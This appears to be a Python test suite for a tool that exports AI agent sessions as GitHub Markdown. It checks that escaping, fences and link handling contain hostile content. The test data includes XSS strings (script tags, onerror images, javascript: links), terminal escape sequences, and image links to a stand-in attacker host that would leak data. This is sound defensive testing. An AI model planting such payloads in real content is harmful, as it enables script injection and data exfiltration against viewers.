"""GitHub-Markdown fragments: unbreakable fences, literal text, safe message Markdown, cards
from the bridge's golden tool-call sequences, plans.

Every output is read back with markdown-it-py as GitHub reads it (CommonMark, tables,
strikethrough, raw HTML on) and checked on its tokens, not on substrings alone.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from acp_sidecar.export.clip import COLLAPSE_LINES, HEAD_LINES, TAIL_LINES
from acp_sidecar.export.gfm import details, escape_text, fence, inline_code
from acp_sidecar.export.gfm_cards import (
    card_markdown,
    message_markdown,
    plan_markdown,
    thought_markdown,
)
from acp_sidecar.export.gfm_safe import safe_markdown
from acp_sidecar.render.fold import CardState, TerminalState, apply_tool_update

GOLDEN = Path(__file__).resolve().parents[1] / "bridge" / "golden"
CWD = "/work/project"
GITHUB = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])

HOSTILE = [
    "</details>",
    "<details open><summary>fake</summary>",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<!-- swallow everything",
    "```",
    "````python",
    "~~~",
    "~~~~ unclosed",
    "    <b>indented</b>",
    "[click](javascript:alert(1))",
    "[ref]: javascript:alert(2)",
    "<javascript:alert(3)>",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x00\x08\x7f",
    "`` ` ``",
    "> ```",
    "- ```",
    "*_~|$#",
]
"""Lines a hostile log may hold."""

# Markdown-heavy text: the punctuation that opens constructs, tag names, line breaks.
MARKDOWNISH = st.lists(
    st.sampled_from(
        [
            *"<>/`~-*_[]()!&#:|=\\ \t\n\r\"'$",
            *["details", "summary", "script", "a", "1.", "    ", "```", "~~~", "<!--", "-->"],
        ]
    ),
    max_size=60,
).map("".join)


def _all(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _all(token.children)


def _html(markdown: str) -> list[str]:
    """The raw HTML GitHub would keep from ``markdown``, in order."""
    return [
        t.content.strip()
        for t in _all(GITHUB.parse(markdown))
        if t.type in ("html_block", "html_inline")
    ]


def _pictured(text: str) -> str:
    """Control characters as the export shows them: C0 and DEL as control pictures, C1 as
    U+FFFD; tab and line endings kept."""
    return "".join(
        chr(0x2400 + ord(c))
        if ord(c) < 0x20 and c not in "\t\n\r"
        else "\u2421"
        if c == "\x7f"
        else "\ufffd"
        if 0x80 <= ord(c) < 0xA0
        else c
        for c in text
    )


def _normalised(text: str) -> str:
    return _pictured(re.sub(r"\r\n?", "\n", text))


CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _fold(name: str) -> CardState:
    updates = json.loads((GOLDEN / f"{name}.json").read_text())
    card = CardState(updates[0]["toolCallId"])
    for update in updates:
        apply_tool_update(card, update)
    return card


def _assert_contained(fragment: str) -> None:
    """Put in our ``<details>`` and followed by a paragraph, ``fragment`` keeps our HTML
    exactly (one open, one close) and leaves the paragraph after it at the top level."""
    doc = details("summary", fragment) + "\nAFTER\n"
    html = _html(doc)
    opens = [h for h in html if h.startswith("<details")]
    closes = [h for h in html if h == "</details>"]
    assert len(opens) == len(closes) >= 1, html
    assert all(h.startswith("<details") or h == "</details>" for h in html), html
    tokens = GITHUB.parse(doc)
    assert tokens[-1].type == "paragraph_close" and tokens[-1].level == 0
    assert tokens[-2].content == "AFTER"
    hrefs = [t.attrGet("href") for t in _all(tokens) if t.type == "link_open"]
    assert not any(str(h).lower().startswith("javascript:") for h in hrefs), hrefs


# -- fence -------------------------------------------------------------------------------


@settings(max_examples=300)
@given(text=st.text(max_size=200) | MARKDOWNISH, info=st.text(max_size=10))
@example(text="```", info="")
@example(text="a\n````\n~~~\n", info="py` x")
@example(text="", info="diff")
def test_nothing_in_a_fence_can_end_it(text: str, info: str) -> None:
    tokens = GITHUB.parse(fence(text, info) + "AFTER\n")
    assert [t.type for t in tokens[:2]] == ["fence", "paragraph_open"]
    expected = _normalised(text)
    assert tokens[0].content == (
        expected if expected.endswith("\n") or not expected else expected + "\n"
    )
    assert "`" not in tokens[0].info and "\n" not in tokens[0].info


def test_a_fence_is_longer_than_any_backtick_run_in_its_text() -> None:
    assert fence("a ``` b\n`````\n") == "``````\na ``` b\n`````\n``````\n"
    assert fence("x", "diff") == "```diff\nx\n```\n"


# -- inline code and escaping ------------------------------------------------------------


@settings(max_examples=300)
@given(text=(st.text(min_size=1, max_size=80) | MARKDOWNISH).filter(bool))
@example(text="`")
@example(text=" a ")
@example(text="a\n# heading")
def test_inline_code_is_one_span_holding_the_text(text: str) -> None:
    tokens = GITHUB.parse("x " + inline_code(text) + " y\n")
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    children = tokens[1].children or []
    assert [c.type for c in children] == ["text", "code_inline", "text"]
    assert children[1].content == _pictured(re.sub(r"\r\n?|\n", " ", text))


@settings(max_examples=400)
@given(text=st.text(max_size=80) | MARKDOWNISH)
@example(text="1. <b>*x*</b> & &amp; __init__.py [a](b) | $5 ~~s~~")
@example(text="# title")
@example(text="---")
@example(text="> quoted")
@example(text="  + item")
@example(text="a\n===")
@example(text="<!-- x")
@example(text="&#x41;")
def test_escaped_text_renders_literally_and_opens_nothing(text: str) -> None:
    expected = _pictured(re.sub(r"\r\n?|\n", " ", text)).strip()
    tokens = GITHUB.parse(escape_text(text))
    if not expected:
        assert tokens == []
        return
    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"]
    children = tokens[1].children or []
    assert {c.type for c in children} <= {"text"}, [c.type for c in children]
    assert "".join(c.content for c in children) == expected


def test_escaped_text_stays_readable() -> None:
    assert escape_text("src/app.py: a -> b") == "src/app.py: a -> b"
    assert escape_text("<b> & &amp;") == "&lt;b> & &amp;amp;"
    assert escape_text("1. __init__.py\nnext") == "1\\. \\_\\_init\\_\\_.py next"


def test_control_characters_are_shown_never_sent() -> None:
    assert fence("a\x1b[2Jb\x9b\x00\tc") == "```\na␛[2Jb\ufffd␀\tc\n```\n"
    assert inline_code("\x07") == "`␇`"
    assert escape_text("\x1b]0;t\x07 x\x7f") == "␛\\]0;t␇ x␡"
    assert details("\x1b", "b").startswith("<details><summary>␛</summary>")
    assert safe_markdown("\x1b[1mhi\x1b[0m") == "␛[1mhi␛[0m\n"


def test_details_escapes_its_summary_and_leaves_blank_lines_for_markdown() -> None:
    out = details('</summary><script>x</script> "q"', "**bold**\n", open=True)
    assert out == (
        "<details open><summary>&lt;/summary&gt;&lt;script&gt;x&lt;/script&gt; &quot;q&quot;"
        "</summary>\n\n**bold**\n\n</details>\n"
    )
    strong = [t for t in _all(GITHUB.parse(out)) if t.type == "strong_open"]
    assert len(strong) == 1


# -- safe_markdown -----------------------------------------------------------------------


# Whole lines inside containers (quotes, list items, tables, indented code) around hostile ones.
LINES = st.lists(
    st.tuples(
        st.sampled_from(["", "> ", "- ", "1. ", "  ", "    ", "| ", "> - "]), MARKDOWNISH
    ).map("".join)
    | st.sampled_from([*HOSTILE, "|---|---|", ""]),
    max_size=12,
).map("\n".join)


@settings(max_examples=400)
@given(text=MARKDOWNISH | LINES | st.text(max_size=100))
@example(text="```\nopen <b>")
@example(text="```\n ")
@example(text="```\n    ```")
@example(text="<pre>\n```\n<b>\n```\n</pre>")
@example(text="| a | b |\n|---|---|\n| `<i> | x` |")
def test_a_message_holds_no_html_and_cannot_reach_outside_itself(text: str) -> None:
    out = safe_markdown(text)
    assert _html(out) == []
    _assert_contained(out)


@pytest.mark.parametrize("line", HOSTILE)
def test_each_hostile_line_is_contained_in_every_fragment(line: str) -> None:
    hostile = f"before\n{line}\nafter"
    block = {"type": "text", "text": hostile}
    card = CardState("c1", title=hostile, kind=hostile, status="completed")
    card.locations = [{"path": hostile, "line": 3}]
    card.content = [
        {"type": "content", "content": block},
        {"type": "content", "content": {"type": "text", "text": f"```\n{line}\n"}},
        {"type": "diff", "path": f"{CWD}/{line}", "oldText": hostile, "newText": line},
        {"type": "terminal", "terminalId": "t1"},
    ]
    card.terminals["t1"] = TerminalState("t1", cwd=hostile, chunks=[hostile], exit_code=1)
    fragments = [
        safe_markdown(hostile),
        card_markdown(card, CWD),
        message_markdown("user", [block]),
        message_markdown("agent", [block, {"type": "image", "mimeType": line}]),
        thought_markdown([block]),
        plan_markdown([{"content": hostile, "status": line}]),
    ]
    for fragment in fragments:
        assert _html(fragment) in ([], ["<details><summary>Thought</summary>", "</details>"])
        assert CONTROLS.search(fragment) is None, fragment
        _assert_contained(fragment)


def test_code_keeps_its_angle_brackets_and_the_rest_is_escaped() -> None:
    text = (
        "Use `<T>` or ``a ` <b>`` here <b>bold</b>\n"
        "\n"
        "```html\n<details>\n```\n"
        "\n"
        "    <indented>\n"
        "\n"
        "\\<literal> <!-- note -->"
    )
    assert safe_markdown(text) == (
        "Use `<T>` or ``a ` <b>`` here &lt;b>bold&lt;/b>\n"
        "\n"
        "```html\n<details>\n```\n"
        "\n"
        "    <indented>\n"
        "\n"
        "\\<literal> &lt;!-- note -->\n"
    )


def test_markdown_without_angle_brackets_is_kept_as_written() -> None:
    text = "# Title\n\n- **bold** and _em_\n- [link](https://example.com)\n\n> quote\r\n"
    assert (
        safe_markdown(text)
        == "# Title\n\n- **bold** and _em_\n- [link](https://example.com)\n\n> quote\n"
    )


def test_an_unclosed_fence_is_closed_with_its_own_fence() -> None:
    assert safe_markdown("look:\n````py\nx = 1\n```") == "look:\n````py\nx = 1\n```\n````\n"
    assert safe_markdown("~~~\nx") == "~~~\nx\n~~~\n"
    assert safe_markdown("```") == "```\n```\n"
    assert safe_markdown("```\nx\n```\n\n") == "```\nx\n```\n"


def test_when_the_span_scan_and_the_parser_disagree_code_spans_are_escaped_too() -> None:
    # In a table a `|` ends the cell even between backticks, so `` `<i> | x` `` is no code
    # span to GitHub; the fallback escapes `<` in code spans too, and keeps code blocks.
    text = "Keep `<b>`.\n\n```\n<pre>\n```\n\n| a | b |\n|---|---|\n| `<i> | x` |"
    out = safe_markdown(text)
    assert out == ("Keep `&lt;b>`.\n\n```\n<pre>\n```\n\n| a | b |\n|---|---|\n| `&lt;i> | x` |\n")
    assert _html(out) == []


def test_javascript_links_are_not_links() -> None:
    out = safe_markdown("[a](javascript:alert(1)) [b](JAVASCRIPT:x) [c](https://ok.example)")
    hrefs = [t.attrGet("href") for t in _all(GITHUB.parse(out)) if t.type == "link_open"]
    assert hrefs == ["https://ok.example"]


def _images(markdown: str) -> list[str]:
    return [str(t.attrGet("src")) for t in _all(GITHUB.parse(markdown)) if t.type == "image"]


@pytest.mark.parametrize(
    "text",
    [
        "![](https://attacker.example/?d=secret)",
        'see ![chart *of* it](https://attacker.example/c.png "t") here',
        "![ref]\n\n[ref]: https://attacker.example/r.png",
        "![alt][r]\n\n[r]: https://attacker.example/r.png",
        "| a |\n|---|\n| ![x](https://attacker.example/t.png) |",
        "[![badge](https://attacker.example/b.svg)](https://ok.example)",
        "\\\\![two backslashes](https://attacker.example/b.png)",
        "- ![in a list](https://attacker.example/l.png)\n> ![in a quote](https://attacker.example/q.png)",
        "<b>html too</b> ![x](https://attacker.example/h.png)",
    ],
)
def test_a_remote_image_in_a_message_is_a_link_never_loaded(text: str) -> None:
    """GitHub fetches an image's source when the file is viewed (so a URL can carry data
    out): in an export an image is a link to its source, as in the HTML page."""
    out = safe_markdown(text)
    assert _images(out) == []
    hrefs = [t.attrGet("href") for t in _all(GITHUB.parse(out)) if t.type == "link_open"]
    assert any("attacker.example" in str(h) for h in hrefs), out
    for fragment in (
        message_markdown("agent", [{"type": "text", "text": text}]),
        message_markdown("user", [{"type": "text", "text": text}]),
        thought_markdown([{"type": "text", "text": text}]),
    ):
        assert _images(fragment) == [], fragment


def test_an_image_in_code_stays_code() -> None:
    text = "`![a](https://x.example/a.png)`\n\n```\n![b](https://x.example/b.png)\n```"
    assert safe_markdown(text) == text + "\n"


@settings(max_examples=300)
@given(text=MARKDOWNISH | st.text(max_size=100))
@example(text="![a](b)")
@example(text="\\![a](b)")
@example(text="`` ![a](b)")
def test_no_message_holds_an_image(text: str) -> None:
    assert _images(safe_markdown(text)) == []


# -- messages, thoughts, plans -----------------------------------------------------------


def test_message_joins_text_blocks_and_names_the_rest() -> None:
    out = message_markdown(
        "agent",
        [
            {"type": "text", "text": "I'll **run** "},
            {"type": "text", "text": "them."},
            {"type": "image", "mimeType": "image/png", "data": "AAAA"},
            {"type": "resource_link", "name": "x", "uri": "https://e.example/x"},
            {"type": "text", "text": "Done."},
        ],
    )
    assert out == (
        "**Agent**\n\nI'll **run** them.\n\n*\\[image image/png\\]*\n\n"
        "*\\[link x &lt;https://e.example/x>\\]*\n\nDone.\n"
    )
    assert message_markdown("user", []) == "**User**\n"
    thought = [{"type": "text", "text": "hmm"}]
    assert message_markdown("thought", thought) == thought_markdown(thought)


def _rendered(markdown: str) -> tuple[list[str], str]:
    """The kinds of the tokens GitHub reads in ``markdown``, and its text."""
    tokens = list(_all(GITHUB.parse(markdown)))
    kinds = sorted({t.type for t in tokens} - {"text", "inline", "softbreak", "hardbreak"})
    text = "".join(
        "\n" if t.type in ("hardbreak", "softbreak") else t.content
        for t in tokens
        if t.type in ("text", "hardbreak", "softbreak", "code_inline")
    )
    return kinds, text


@pytest.mark.parametrize(
    "typed",
    [
        "# Add a greeting",
        "Please add `greet` to **hello.py**: *name*, ~~no~~, [x](https://x.org) <b>",
        "- a list\n1. numbered\n> quoted\n    indented four\n\tand a tab",
        "===\n---\n***\n| a | b |\n|---|---|\n```\nfence\n```",
        "ends with a backslash \\\nand &amp; an entity &#65;",
    ],
)
def test_a_prompt_is_shown_as_typed_not_as_markdown(typed: str) -> None:
    markdown = message_markdown("user", [{"type": "text", "text": typed}])
    assert markdown.startswith("**User**\n\n")
    kinds, text = _rendered(markdown.removeprefix("**User**\n\n"))
    assert kinds == ["paragraph_close", "paragraph_open"], kinds
    shown = [line.lstrip(" \t\u00a0") for line in text.split("\n")]
    assert shown == [line.lstrip(" \t") for line in typed.split("\n") if line.strip()]


def test_a_typed_prompt_keeps_its_indentation_and_paragraphs() -> None:
    markdown = message_markdown("user", [{"type": "text", "text": "a\n  b\n\nc"}])
    assert markdown == "**User**\n\na\\\n&#160;&#160;b\n\nc\n"


def test_thought_is_a_closed_details() -> None:
    out = thought_markdown([{"type": "text", "text": "Looking at </details> the *tests*"}])
    assert out == (
        "<details><summary>Thought</summary>\n\n"
        "Looking at &lt;/details> the *tests*\n\n</details>\n"
    )


def test_plan_is_a_task_list() -> None:
    out = plan_markdown(
        [
            {"content": "Read *the* code", "status": "completed", "priority": "high"},
            {"content": "Fix it", "status": "in_progress"},
            {"content": "- [x] sneaky", "status": "pending"},
            {"content": 3, "status": None},
        ]
    )
    assert out == (
        "**Plan**\n\n"
        "- [x] Read \\*the\\* code\n"
        "- [ ] Fix it *(in progress)*\n"
        "- [ ] \\- \\[x\\] sneaky *(pending)*\n"
        "- [ ] *(no text)* *(unknown)*\n"
    )
    items = [t for t in GITHUB.parse(out) if t.type == "list_item_open"]
    assert len(items) == 4 and all(t.level == 1 for t in items)
    assert plan_markdown([]) == "**Plan**\n\n*(empty)*\n"


# -- cards from the bridge's golden sequences --------------------------------------------

GOLDEN_NAMES = sorted(p.stem for p in GOLDEN.glob("*.json"))


@pytest.mark.parametrize("name", GOLDEN_NAMES)
def test_every_golden_card_is_drawn_and_contained(name: str) -> None:
    card = _fold(name)
    out = card_markdown(card, CWD)
    marker = {"completed": "✓", "failed": "✗"}[card.status]
    assert out.startswith(f"{marker} ")
    assert f"**{escape_text(card.title)}**" in out.splitlines()[0]
    assert _html(out) == []
    _assert_contained(out)
    infos = [t.info for t in _all(GITHUB.parse(out)) if t.type == "fence"]
    kinds = [item.get("type") for item in card.content]
    # A diff is a diff fence, a started terminal a console fence; a text is a bare fence
    # unless it holds fences of its own (then they are drawn as written).
    assert infos.count("diff") == kinds.count("diff")
    assert infos.count("console") >= len(card.terminals) * kinds.count("terminal")
    plain_texts = [i for i in card.content if i.get("type") == "content" and "```" not in str(i)]
    assert infos.count("") >= len(plain_texts)


def test_golden_diff_card() -> None:
    assert card_markdown(_fold("diff__diff__capable__completed"), CWD) == (
        "✓ *edit* **Edited src/app.py** · `src/app.py`\n"
        "\n"
        "`src/app.py`\n"
        "\n"
        "```diff\n"
        "--- a/src/app.py\n"
        "+++ b/src/app.py\n"
        "@@ -1 +1 @@\n"
        "-a = 1\n"
        "+a = 2\n"
        "```\n"
    )


def test_golden_new_file_diff() -> None:
    updates = json.loads((GOLDEN / "diff_new_file__diff__capable__completed.json").read_text())
    card = CardState("call-1")
    for update in updates[:2]:
        apply_tool_update(card, update)
    out = card_markdown(card, CWD)
    assert "`new.txt` — **new file**\n\n```diff\n--- /dev/null\n+++ b/new.txt\n" in out
    assert out.endswith("+hello\n```\n")


def test_golden_terminal_card() -> None:
    assert card_markdown(_fold("terminal__terminal_exit__capable__failed"), CWD) == (
        "✗ *execute* **pytest -q**\n"
        "\n"
        "```\nRun the tests\n```\n"
        "\n"
        "cwd `sub`\n"
        "\n"
        "````console\n$ pytest -q\nok\n```\nfenced\n````\n"
        "\n"
        "`exit 0`\n"
    )


def test_golden_terminal_killed_by_a_signal() -> None:
    out = card_markdown(_fold("terminal__terminal_signal__capable__completed"), CWD)
    assert out.endswith("```console\n$ pytest -q\npartial\n```\n\n`SIGTERM`\n")


def test_terminal_status_running_failed_and_unstarted() -> None:
    card = CardState("c", title="make", kind="execute", status="in_progress")
    card.content = [{"type": "terminal", "terminalId": "t"}]
    card.terminals["t"] = TerminalState("t", chunks=["\x1b[1;31mboom\x1b[0m\r\n50%\r100%\n"])
    assert card_markdown(card, CWD) == (
        "⋯ *execute* **make**\n\n```console\n$ make\nboom\n100%\n```\n\n*running*\n"
    )
    card.status = "failed"
    assert card_markdown(card, CWD).endswith("*no exit status*\n")
    card.terminals["t"].exit_code = 2
    assert card_markdown(card, CWD).endswith("`exit 2`\n")
    card.terminals.clear()
    assert card_markdown(card, CWD).endswith("*(terminal not started)*\n")


def test_card_without_content_shows_its_raw_input_and_odd_items_are_named() -> None:
    card = CardState("c", status="pending", raw_input={"q": "`x`" * 200})
    out = card_markdown(card, None)
    assert out.startswith("○ **c**\n\n```{")  # the text holds ``, so the span takes ```
    assert out.endswith("…```\n")
    code = [t for t in _all(GITHUB.parse(out)) if t.type == "code_inline"]
    assert len(code) == 1 and len(code[0].content) == 300
    card.content = [{"type": "mystery"}, {"type": "content", "content": {"type": "audio"}}]
    assert card_markdown(card, None) == "○ **c**\n\n*\\[mystery item\\]*\n\n*\\[audio\\]*\n"


def test_text_holding_a_fence_is_markdown_made_safe() -> None:
    card = CardState("c", title="t", status="completed")
    text = "Found:\n```py\nx = '<b>'\n```\nand <b>this</b>\n```\nunclosed"
    card.content = [{"type": "content", "content": {"type": "text", "text": text}}]
    out = card_markdown(card, CWD)
    assert out == (
        "✓ **t**\n\nFound:\n```py\nx = '<b>'\n```\nand &lt;b>this&lt;/b>\n```\nunclosed\n```\n"
    )


# -- long parts --------------------------------------------------------------------------


def _numbered(count: int) -> str:
    return "".join(f"line {i}\n" for i in range(1, count + 1))


def _text_card(text: str) -> CardState:
    card = CardState("c", title="t", status="completed")
    card.content = [{"type": "content", "content": {"type": "text", "text": text}}]
    return card


def test_a_short_body_is_shown_whole() -> None:
    out = card_markdown(_text_card(_numbered(COLLAPSE_LINES)), CWD)
    assert "<details>" not in out
    assert out.endswith(f"line {COLLAPSE_LINES}\n```\n")


def test_a_long_body_is_collapsed_behind_show_all() -> None:
    count = COLLAPSE_LINES + 1
    out = card_markdown(_text_card(_numbered(count)), CWD)
    assert out == (
        f"✓ **t**\n\n<details><summary>show all ({count} lines)</summary>\n\n"
        f"```\n{_numbered(count)}```\n\n</details>\n"
    )


def test_a_very_long_output_keeps_head_and_tail() -> None:
    count = HEAD_LINES + TAIL_LINES + 50
    card = CardState("c", title="seq", kind="execute", status="completed")
    card.content = [{"type": "terminal", "terminalId": "t"}]
    card.terminals["t"] = TerminalState("t", chunks=[_numbered(count)], exit_code=0)
    out = card_markdown(card, CWD)
    fences = [t for t in GITHUB.parse(out) if t.type == "fence"]
    assert len(fences) == 2
    assert fences[0].content == "$ seq\n" + _numbered(HEAD_LINES)
    assert fences[1].content == "".join(
        f"line {i}\n" for i in range(count - TAIL_LINES + 1, count + 1)
    )
    assert f"<summary>show all ({count} lines)</summary>" in out
    assert "\n*… 50 lines left out …*\n" in out
    assert out.endswith("</details>\n\n`exit 0`\n")
    _assert_contained(out)


def test_a_long_diff_is_clipped_the_same_way() -> None:
    old = _numbered(HEAD_LINES + TAIL_LINES)
    item: dict[str, Any] = {"type": "diff", "path": f"{CWD}/a.txt", "oldText": old, "newText": ""}
    card = CardState("c", title="t", status="completed", content=[item])
    out = card_markdown(card, CWD)
    # 3 header lines and every old line removed.
    assert "*… 3 lines left out …*" in out
    assert f"show all ({HEAD_LINES + TAIL_LINES + 3} lines)" in out


# -- the recorded session ----------------------------------------------------------------


def test_every_block_of_the_recorded_session_is_drawn_and_contained() -> None:
    from acp_sidecar.agent.toolset import ToolsProvider
    from acp_sidecar.export.document import Tally, walk
    from acp_sidecar.export.source import StoredSession
    from acp_sidecar.render.blocks import CardBlock, MessageBlock, PlanBlock

    fixture = Path(__file__).resolve().parents[1] / "fixtures" / "export" / "recorded.jsonl"
    drawn: list[str] = []
    cards: list[CardState] = []
    with StoredSession(fixture, ToolsProvider().registry.get) as session:
        cwd = session.heading.cwd
        for block in walk(session.entries(), Tally()):
            if isinstance(block, CardBlock):
                cards.append(block.card)
                drawn.append(card_markdown(block.card, cwd))
            elif isinstance(block, MessageBlock):
                drawn.append(message_markdown(block.role, block.blocks))
            elif isinstance(block, PlanBlock):
                drawn.append(plan_markdown(block.entries))
    assert len(cards) >= 5 and any(d.startswith("**User**") for d in drawn)
    for fragment in drawn:
        _assert_contained(fragment)
    doc = "\n".join(drawn)
    assert "<summary>show all (400 lines)</summary>" in doc  # `seq 1 400`
    assert "\n*… 100 lines left out …*\n" in doc
    infos = [t.info for t in GITHUB.parse(doc) if t.type == "fence"]
    diffs = sum(item.get("type") == "diff" for card in cards for item in card.content)
    assert diffs >= 2 and infos.count("diff") == diffs
    assert "python" in infos and "console" in infos
    assert any(t.type == "table_open" for t in GITHUB.parse(doc))  # the agent's own table


def test_the_quick_control_search_finds_exactly_what_harmless_replaces() -> None:
    from acp_sidecar.text import _CONTROL, _ONE_FOR_ONE

    found = {code for code in range(0xD800) if _CONTROL.search(chr(code))}
    assert found == set(_ONE_FOR_ONE)
